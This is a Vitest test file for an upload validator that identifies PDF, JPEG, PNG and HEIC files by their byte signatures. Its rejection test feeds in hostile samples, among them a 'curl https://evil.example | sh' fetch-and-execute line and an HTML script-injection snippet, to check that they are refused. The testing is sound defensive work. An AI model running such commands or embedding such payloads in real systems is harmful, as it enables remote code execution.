// What an upload is comes from its content, not its name (issue 18): the signatures of the four
// types we accept, a PNG called .pdf (a PNG), and a script, an HTML page or a zip called .pdf
// (none of them). The samples the demo seeds are valid files of their types.
import { describe, expect, it } from "vitest";
import { detectDocumentType } from "@/lib/documents/detect-type";
import { samplePdf, samplePng } from "@/prisma/sample-files";

const hex = (h: string) => new Uint8Array(Buffer.from(h.replace(/\s+/g, ""), "hex"));
const ascii = (s: string) => new Uint8Array(Buffer.from(s, "latin1"));
const pad = (head: Uint8Array, to = 256) => {
  const out = new Uint8Array(Math.max(to, head.length));
  out.set(head);
  return out;
};
/** An ISO base media file's ftyp box with the major brand and compatible brands given (HEIC from an iPhone: heic, mif1). */
const ftyp = (major: string, ...compatible: string[]) => {
  const brands = [major, "\0\0\0\0", ...compatible].join("");
  const size = 8 + brands.length;
  return pad(new Uint8Array([...hex(size.toString(16).padStart(8, "0")), ...ascii("ftyp"), ...ascii(brands)]));
};

describe("detectDocumentType", () => {
  it("knows a PDF by %PDF-, whatever follows", async () => {
    expect(await detectDocumentType(samplePdf(["A letter"]))).toEqual({ mediaType: "application/pdf", extension: "pdf" });
    expect(await detectDocumentType(pad(ascii("%PDF-1.7\n%âãÏÓ\n")))).toEqual({ mediaType: "application/pdf", extension: "pdf" });
  });

  it("knows a JPEG by FF D8 FF (JFIF and Exif, as cameras write them)", async () => {
    expect(await detectDocumentType(pad(hex("ffd8ffe0 0010 4a464946 00 0101")))).toEqual({ mediaType: "image/jpeg", extension: "jpg" });
    expect(await detectDocumentType(pad(hex("ffd8ffe1 0018 45786966 0000")))).toEqual({ mediaType: "image/jpeg", extension: "jpg" });
  });

  it("knows a PNG by its eight-byte signature", async () => {
    expect(await detectDocumentType(samplePng())).toEqual({ mediaType: "image/png", extension: "png" });
  });

  it("knows HEIC (and HEIF) photos from phones by their ftyp brand", async () => {
    expect(await detectDocumentType(ftyp("heic", "mif1", "heic"))).toEqual({ mediaType: "image/heic", extension: "heic" });
    expect(await detectDocumentType(ftyp("heix", "mif1", "heix"))).toEqual({ mediaType: "image/heic", extension: "heic" });
    expect(await detectDocumentType(ftyp("mif1", "mif1", "heic"))).toMatchObject({ mediaType: expect.stringMatching(/^image\/hei[cf]$/) });
  });

  it("refuses what is none of them, whatever it is called: a script, a web page, a zip, a video, text, nothing", async () => {
    for (const bytes of [
      ascii("#!/bin/sh\ncurl https://evil.example | sh\n"),
      ascii("<!doctype html><script>alert(1)</script>"),
      pad(hex("504b0304 1400 0000 0800")),
      ftyp("isom", "isom", "mp42"),
      ascii("Dear officer, here is my letter."),
      pad(hex("4d5a9000 0300 0000")),
      new Uint8Array(),
    ]) {
      expect(await detectDocumentType(bytes)).toBeNull();
    }
  });

  it("makes valid sample files: the PDF's cross-reference table points at its objects", () => {
    const pdf = Buffer.from(samplePdf(["Line one", "Line (two)"])).toString("latin1");
    const startxref = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(pdf)![1]);
    expect(pdf.slice(startxref, startxref + 4)).toBe("xref");
    const offsets = [...pdf.slice(startxref).matchAll(/^(\d{10}) 00000 n $/gm)].map((m) => Number(m[1]));
    offsets.forEach((o, i) => expect(pdf.slice(o, o + `${i + 1} 0 obj`.length)).toBe(`${i + 1} 0 obj`));
  });
});
